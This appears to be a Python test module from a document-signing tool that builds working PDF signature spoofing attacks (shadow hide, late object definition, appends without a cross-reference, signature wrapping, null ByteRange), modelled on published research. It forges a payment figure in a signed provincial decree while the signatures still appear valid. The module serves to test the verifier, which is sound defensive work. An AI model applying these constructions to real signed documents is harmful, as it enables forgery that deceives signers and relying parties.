"""Attacks on signed PDFs, built at test time from the published attack classes.

Our own constructions of the classes in Mainka, Mladenov, Rohlmann et al., "Shadow
Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021) and Mladenov et al.,
"1 Trillion Dollar Refund: How To Spoof PDF Signatures" (CCS 2019): each takes the bytes
of a document before or after signing and returns the bytes an attacker would send.
Updates are written by hand (objects, a cross-reference table, a trailer), as an attacker
would, so that nothing in them depends on the library under test.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

#: An object number far above anything our documents use.
LATE_ID = 9000
#: What the attacker's content shows on page 1.
FAKE_TEXT = b"SO TIEN: 1.000.000.000 DONG"


def reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(data), strict=False)


def serialize(obj: Any) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def stream(content: bytes, extra: str = "") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra.encode()) + content + b"\nendstream"


def cover_content(text: bytes = FAKE_TEXT) -> bytes:
    """A white box over the body of page 1 with the attacker's text on it (Helvetica)."""
    return (
        b"q 1 1 1 rg 60 380 480 300 re f Q\n"
        b"BT /AtkF 16 Tf 0 0 0 rg 90 600 Td (" + text + b") Tj ET\n"
    )


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


@dataclass
class Tail:
    startxref: int
    size: int
    root: bytes
    info: bytes | None
    ids: bytes | None


def tail_of(data: bytes) -> Tail:
    r = reader(data)
    trailer = r.trailer_view
    root = serialize(trailer.raw_get("/Root"))
    info = serialize(trailer.raw_get("/Info")) if "/Info" in trailer else None
    ids = serialize(trailer.raw_get("/ID")) if "/ID" in trailer else None
    return Tail(r.last_startxref, int(trailer["/Size"]), root, info, ids)


def append_update(data: bytes, objects: dict[int, bytes], *, size: int | None = None) -> bytes:
    """``data`` with an incremental update defining ``objects`` (id -> body), as an attacker writes it."""
    tail = tail_of(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for idnum, body in sorted(objects.items()):
        offsets[idnum] = len(out)
        out += b"%d 0 obj\n" % idnum + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for idnum in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (idnum, offsets[idnum])
    new_size = max(size or 0, tail.size, max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d" % (new_size, tail.root, tail.startxref)
    if tail.info:
        out += b" /Info " + tail.info
    if tail.ids:
        out += b" /ID " + tail.ids
    out += b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def page_ref(data: bytes, index: int = 0) -> tuple[int, Any]:
    page = reader(data).root["/Pages"]["/Kids"].raw_get(index)
    return page.reference.idnum, page.get_object()


def _catalog(data: bytes) -> tuple[int, Any]:
    r = reader(data)
    ref = r.trailer_view.raw_get("/Root").reference
    return ref.idnum, r.root


# ------------------------------------------------------------- shadow hide by widget flags


SHADOW_FIELD = "ghi-chu-an"


def shadow_prepare(data: bytes) -> bytes:
    """Before signing: a read-only text field whose widget covers page 1's body with the
    attacker's appearance (the signer sees the cover, not the text beneath)."""
    tail = tail_of(data)
    field_id, ap_id, font_id = tail.size, tail.size + 1, tail.size + 2
    page_id, page = page_ref(data)
    catalog_id, catalog = _catalog(data)
    page[generic.pdf_name("/Annots")] = generic.ArrayObject([generic.IndirectObject(field_id, 0, None)])
    catalog[generic.pdf_name("/AcroForm")] = generic.DictionaryObject({
        generic.pdf_name("/Fields"): generic.ArrayObject([generic.IndirectObject(field_id, 0, None)]),
    })
    field = (
        b"<< /FT /Tx /Ff 1 /T (" + SHADOW_FIELD.encode() + b") /Type /Annot /Subtype /Widget"
        b" /Rect [60 380 540 680] /F 4 /P %d 0 R /DA (/Helv 0 Tf 0 g) /V ()"
        b" /AP << /N %d 0 R >> >>" % (page_id, ap_id)
    )
    appearance = stream(
        b"q 1 1 1 rg 0 0 480 300 re f Q BT /AtkF 16 Tf 0 0 0 rg 30 220 Td (" + FAKE_TEXT + b") Tj ET",
        f"/Type /XObject /Subtype /Form /BBox [0 0 480 300] /Resources << /Font << /AtkF {font_id} 0 R >> >> ",
    )
    return append_update(data, {
        page_id: serialize(page), catalog_id: serialize(catalog), field_id: field, ap_id: appearance,
        font_id: HELVETICA,
    })


def shadow_hide(data: bytes) -> bytes:
    """After signing: an update that only sets the cover's annotation flags to hidden."""
    r = reader(data)
    fields = r.root["/AcroForm"].raw_get("/Fields")
    fields = fields.get_object() if isinstance(fields, generic.IndirectObject) else fields
    for raw in fields:
        obj = raw.get_object()
        if obj.get("/T") == SHADOW_FIELD:
            obj[generic.pdf_name("/F")] = generic.NumberObject(6)  # print + hidden
            return append_update(data, {raw.idnum: serialize(obj)})
    raise AssertionError("no shadow field to hide")


# ------------------------------------------------------- shadow hide-and-replace, late definition


def late_prepare(data: bytes) -> bytes:
    """Before signing: page 1 draws a form XObject that no revision defines yet (a reader
    skips the missing drawing, so the signer sees the letter as it is)."""
    tail = tail_of(data)
    draw_id = tail.size
    page_id, page = page_ref(data)
    contents = page.raw_get("/Contents")
    items = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[generic.pdf_name("/Contents")] = generic.ArrayObject([*items, generic.IndirectObject(draw_id, 0, None)])
    resources = generic.DictionaryObject(dict(page["/Resources"]))
    xobjects = resources.get("/XObject")
    xobjects = generic.DictionaryObject(dict(xobjects) if xobjects is not None else {})
    xobjects[generic.pdf_name("/LateFm")] = generic.IndirectObject(LATE_ID, 0, None)
    resources[generic.pdf_name("/XObject")] = xobjects
    page[generic.pdf_name("/Resources")] = resources
    return append_update(data, {page_id: serialize(page), draw_id: stream(b"q /LateFm Do Q")}, size=LATE_ID + 1)


def late_define(data: bytes) -> bytes:
    """After signing: an update that only defines the missing drawing (a cover and new text)."""
    tail = tail_of(data)
    font_id = tail.size
    form = stream(
        cover_content(),
        f"/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /Font << /AtkF {font_id} 0 R >> >> ",
    )
    return append_update(data, {LATE_ID: form, font_id: HELVETICA})


# ------------------------------------------------ incremental saving without a cross-reference


def append_without_xref(data: bytes) -> bytes:
    """After signing: page 1's content replaced by objects appended after %%EOF, with no
    cross-reference or trailer, and the signed startxref repeated."""
    tail = tail_of(data)
    page_id, page = page_ref(data)
    content_id, font_id = tail.size, tail.size + 1
    page[generic.pdf_name("/Contents")] = generic.IndirectObject(content_id, 0, None)
    resources = generic.DictionaryObject(dict(page["/Resources"]))
    resources[generic.pdf_name("/Font")] = generic.DictionaryObject({
        generic.pdf_name("/AtkF"): generic.IndirectObject(font_id, 0, None)
    })
    page[generic.pdf_name("/Resources")] = resources
    out = bytearray(data)
    for idnum, body in ((page_id, serialize(page)), (content_id, stream(cover_content())), (font_id, HELVETICA)):
        out += b"%d 0 obj\n" % idnum + body + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % tail.startxref
    return bytes(out)


# ------------------------------------------------------------------------- signature wrapping


def _der_length(blob: bytes) -> int:
    if blob[1] < 0x80:
        return 2 + blob[1]
    n = blob[1] & 0x7F
    return 2 + n + int.from_bytes(blob[2 : 2 + n], "big")


def _literal(blob: bytes) -> bytes:
    escaped = blob.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
    return b"(" + escaped + b")"


def wrap_signature(data: bytes, field_name: str | None = None) -> bytes:
    """The signed second block moved to the end; ``/Contents`` written as a literal string
    half as long as the gap, and the freed half holding a new content for page 1 and a
    cross-reference at the offset the signed ``startxref`` names.

    The byte ranges still hash to the signed bytes, and the lengths still add up to the
    file's size (a literal string's bytes count once, a hex string's twice).
    """
    r = reader(data)
    sigs = r.embedded_regular_signatures
    sig = next(s for s in sigs if s.field_name == field_name) if field_name else sigs[-1]
    _zero, a, b, c = (int(x) for x in sig.byte_range)
    if b + c != len(data):
        raise AssertionError("wrap the last signature of the file")
    block2 = data[b : b + c]
    x = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", block2)[-1])  # the signed revision's xref
    hexed = data[a:b]
    cms_padded = bytes.fromhex(hexed[1:-1].decode())
    cms = cms_padded[: _der_length(cms_padded)]
    end_dict = block2.index(b"endobj")
    dict_tail = block2[:end_dict]  # "\n/ByteRange [...]  /Type /Sig ... >>\n"
    br_match = re.search(rb"/ByteRange\s*\[[^\]]*\]\s*", dict_tail)
    assert br_match is not None
    width = br_match.end() - br_match.start()

    # the revision's objects, as the attacker's cross-reference lists them
    revision = r.xrefs.get_xref_data(sig.signed_revision)
    entries = {idnum: offset for idnum, (_g, offset) in revision.standard_xrefs.items()}
    prev = r.xrefs.get_startxref_for_revision(sig.signed_revision - 1)
    trailer = r.trailer.flatten(sig.signed_revision)
    size = int(trailer["/Size"])
    page_id, page = page_ref(data)
    content_id, font_id = size, size + 1
    page[generic.pdf_name("/Contents")] = generic.IndirectObject(content_id, 0, None)
    resources = generic.DictionaryObject(dict(page["/Resources"]))
    resources[generic.pdf_name("/Font")] = generic.DictionaryObject({
        generic.pdf_name("/AtkF"): generic.IndirectObject(font_id, 0, None)
    })
    page[generic.pdf_name("/Resources")] = resources
    evil_objects = [(page_id, serialize(page)), (content_id, stream(cover_content())), (font_id, HELVETICA)]
    evil_len = sum(len(b"%d 0 obj\n" % i + body + b"\nendobj\n") for i, body in evil_objects)

    def build(n: int) -> bytes:
        literal = _literal(cms + b"\0" * (n - len(cms)))
        g_len = 2 * n + 2
        new_br = b"/ByteRange [0 %d %d %d]" % (a, a + g_len, c)
        tail = dict_tail[: br_match.start()] + new_br.ljust(width) + dict_tail[br_match.end() :] + b"endobj\n"
        g = bytearray(literal + tail)
        table = dict(entries)
        for idnum, body in evil_objects:
            table[idnum] = a + len(g)
            g += b"%d 0 obj\n" % idnum + body + b"\nendobj\n"
        if a + len(g) > x:
            raise ValueError("no room")
        g += b" " * (x - a - len(g))
        xref = b"xref\n"
        for idnum in sorted(table):
            xref += b"%d 1\n%010d 00000 n \n" % (idnum, table[idnum])
        xref += b"trailer\n<< /Size %d /Root %s /Prev %d" % (size + 2, serialize(trailer.raw_get("/Root")), prev)
        if "/Info" in trailer:
            xref += b" /Info " + serialize(trailer.raw_get("/Info"))
        xref += b" >>\nstartxref\n%d\n%%%%EOF\n" % x
        g += xref
        if len(g) > g_len:
            raise ValueError("too long")
        g += b" " * (g_len - len(g))
        return bytes(g)

    escapes = len(_literal(cms)) - len(cms) - 2
    n = x - a - 2 - escapes - len(dict_tail) - evil_len - 64
    gap = build(n)
    return data[:a] + gap + block2


# ------------------------------------------------------------------- a malformed signature


def null_byte_range(data: bytes, which: int = -1) -> bytes:
    """A signature dictionary whose /ByteRange is null (same length, so offsets hold)."""
    spots = [m for m in re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data)]
    m = spots[which]
    replacement = b"/ByteRange null".ljust(m.end() - m.start())
    return data[: m.start()] + replacement + data[m.end() :]


# --------------------------------------------------------------- the clerk's number and date

#: What the clerk writes when issuing (Helvetica in the test's appearance: no Vietnamese letters).
ISSUED = {"number": "12/QD-UBND", "date": "Nghe An, ngay 05 thang 3 nam 2026"}



def fill_fields(data: bytes, values: dict[str, str]) -> bytes:
    """Fill text fields as the clerk does when issuing: the value and the widget's appearance only."""
    r = reader(data)
    tail = tail_of(data)
    objects: dict[int, bytes] = {}
    next_id = tail.size
    fields = r.root["/AcroForm"]["/Fields"]
    for raw in fields.iterate() if hasattr(fields, "iterate") else fields:
        obj = raw.get_object()
        name = obj.get("/T")
        if name not in values:
            continue
        text = values[name]
        rect = [float(v) for v in obj["/Rect"]]
        w, h = rect[2] - rect[0], rect[3] - rect[1]
        ap_id, font_id = next_id, next_id + 1
        next_id += 2
        objects[ap_id] = stream(
            b"/Tx BMC BT /F1 12 Tf 0 0 0 rg 2 %.2f Td (%s) Tj ET EMC"
            % (max(2.0, (h - 10) / 2), text.encode("latin-1")),
            f"/Type /XObject /Subtype /Form /BBox [0 0 {w:.2f} {h:.2f}] "
            f"/Resources << /Font << /F1 {font_id} 0 R >> >> ",
        )
        objects[font_id] = HELVETICA
        obj[generic.pdf_name("/V")] = generic.TextStringObject(text)
        obj[generic.pdf_name("/AP")] = generic.DictionaryObject({
            generic.pdf_name("/N"): generic.IndirectObject(ap_id, 0, None)
        })
        objects[raw.idnum] = serialize(obj)
    if len([k for k in objects if k < tail.size]) != len(values):
        raise AssertionError(f"fields {sorted(values)} not all found")
    return append_update(data, objects)


# ------------------------------------------------------------ documents signed by our CLI


def cli_sign(
    inputs: list[Path], out_dir: Path, p12: Path, password: str, appearance: str, image: Path, seal: Path | None = None
) -> list[Path]:
    """``eoffice sign`` over ``inputs`` (one run, one PIN), as a leader or a clerk would."""
    extra = ["--title", "Chủ tịch", "--name", "Nguyễn Văn Đức"] if appearance == "signer" else []
    if seal is not None:
        extra += ["--seal-image", str(seal)]
    done = subprocess.run(
        [sys.executable, "-m", "eoffice", "sign", *map(str, inputs), "--output-dir", str(out_dir),
         "--pkcs12", str(p12), "--pin-env", "ATTACK_P12_PASSWORD", "--appearance", appearance, "--image", str(image),
         *extra],
        capture_output=True, text=True, env={**os.environ, "ATTACK_P12_PASSWORD": password},
    )
    if done.returncode != 0:
        raise AssertionError(done.stdout + done.stderr)
    return [out_dir / p.name for p in inputs]


@dataclass
class Decree:
    """Drafts of one letter (and the attacker's preparations of it), signed by the leader and
    sealed by the clerk with ``eoffice sign``, as the decree wants; the files at each step."""

    folder: Path
    unsigned: dict[str, Path]
    signed: dict[str, Path]  # the leader's signature
    sealed: dict[str, Path]  # then the agency's seal

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / "attacks" / f"{name}.pdf"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        return path

    def attack(self, name: str) -> Path:
        """The file of attack ``name`` (see ``ATTACKS``), built once."""
        path = self.folder / "attacks" / f"{name}.pdf"
        if not path.is_file():
            self.write(name, ATTACKS[name](self))
        return path


def write_letter(path: Path) -> Path:
    """A decision drafted for the leader to sign: its number (Số:) still blank."""
    from eoffice.demo.pdfs import write_document

    return write_document(
        path, organ_name="Ủy ban nhân dân tỉnh Nghệ An", number_label="", type_name="Quyết định",
        subject="Về việc phê duyệt kinh phí chuyển đổi số",
        body="Phê duyệt kinh phí năm 2026 là 100.000.000 đồng. " * 6,
        signer_position="Chủ tịch", signer_full_name="Nguyễn Văn Đức",
        place_date="Nghệ An, ngày      tháng      năm 2026",
    )


def build_decree(folder: Path, signer_p12: Path, agency_p12: Path, password: str) -> Decree:
    from eoffice.signing import images

    folder.mkdir(parents=True, exist_ok=True)
    letter = write_letter(folder / "letter.pdf")
    signature, seal = folder / "chu-ky.png", folder / "con-dau.png"
    signature.write_bytes(images.signature_image("Nguyễn Văn Đức"))
    seal.write_bytes(images.seal_image("Ủy ban nhân dân tỉnh Nghệ An"))
    drafts = folder / "drafts"
    drafts.mkdir()
    base = letter.read_bytes()
    unsigned = {
        "plain": base,
        "shadow": shadow_prepare(base),
        "late": late_prepare(base),
    }
    for name, data in unsigned.items():
        (drafts / f"{name}.pdf").write_bytes(data)
    paths = {name: drafts / f"{name}.pdf" for name in unsigned}
    signed_dir, sealed_dir, between = folder / "signed", folder / "sealed", folder / "between"
    signed_list = cli_sign(list(paths.values()), signed_dir, signer_p12, password, "signer", signature, seal)
    signed = dict(zip(paths, signed_list, strict=True))
    between.mkdir()
    to_seal = dict(signed)
    # the clerk writes the number and date the leader's certification left open, then seals
    filled = between / "filled.pdf"
    filled.write_bytes(fill_fields(signed["plain"].read_bytes(), ISSUED))
    to_seal["filled"] = filled
    # the attacker wraps the leader's signature before the clerk seals it
    wrapped = between / "wrapped-signer.pdf"
    wrapped.write_bytes(wrap_signature(signed["plain"].read_bytes()))
    to_seal["wrapped-signer"] = wrapped
    sealed_list = cli_sign(list(to_seal.values()), sealed_dir, agency_p12, password, "agency", seal)
    sealed = dict(zip(to_seal, sealed_list, strict=True))
    return Decree(folder, paths, signed, sealed)


#: Each attack class, as the file an attacker would send (built from a Decree).
ATTACKS: dict[str, Callable[[Decree], bytes]] = {
    # a read-only field's widget covered the text when the leader signed; after the seal,
    # an update only sets its flags to hidden
    "shadow-hide": lambda d: shadow_hide(d.sealed["shadow"].read_bytes()),
    # page 1 drew an object no signed revision defines; after the seal, an update defines it
    "late-definition": lambda d: late_define(d.sealed["late"].read_bytes()),
    # page 1 redefined after the last %%EOF, no cross-reference, the signed startxref repeated
    "no-xref": lambda d: append_without_xref(d.sealed["plain"].read_bytes()),
    # the leader's only signature wrapped: page 1 replaced inside its byte-range gap
    "wrap-single": lambda d: wrap_signature(d.signed["plain"].read_bytes()),
    # the leader's signature wrapped, then sealed by the clerk as if nothing happened
    "wrap-then-sealed": lambda d: d.sealed["wrapped-signer"].read_bytes(),
    # the seal's /ByteRange set to null
    "null-byte-range": lambda d: null_byte_range(d.sealed["plain"].read_bytes()),
}


def timestamp(data: bytes, pki: Any) -> bytes:
    """A document timestamp by the test TSA, with the validation data for it in a DSS."""
    from asn1crypto import crl as asn1_crl
    from asn1crypto import keys as asn1_keys
    from asn1crypto import x509 as asn1_x509
    from cryptography.hazmat.primitives import serialization
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers import PdfTimeStamper
    from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
    from pyhanko_certvalidator import ValidationContext

    def der(cert: Any) -> Any:
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))

    stamper = DummyTimeStamper(
        tsa_cert=der(pki.tsa.cert),
        tsa_key=asn1_keys.PrivateKeyInfo.load(pki.tsa.key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )),
    )
    context = ValidationContext(
        trust_roots=[der(pki.root.cert)], crls=[asn1_crl.CertificateList.load(c) for c in pki.crl_bytes()],
        allow_fetching=False, revocation_mode="soft-fail",
    )
    out = io.BytesIO(data)
    PdfTimeStamper(stamper).timestamp_pdf(
        IncrementalPdfFileWriter(out), "sha256", validation_context=context, in_place=True
    )
    return out.getvalue()
